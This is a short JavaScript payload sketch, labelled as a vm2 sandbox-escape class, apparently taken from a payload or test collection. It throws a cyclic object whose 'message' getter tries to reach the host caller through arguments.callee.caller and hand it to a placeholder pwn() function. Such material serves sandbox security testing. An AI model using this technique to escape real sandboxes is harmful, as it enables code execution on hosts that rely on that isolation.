// vm2 class: sanitiser recursion on a deep/cyclic thrown value
const o = {}; o.o = o; o.get = 1; Object.defineProperty(o, 'message', { get() { try { pwn(arguments.callee.caller) } catch (e) {} return o } }); throw o;
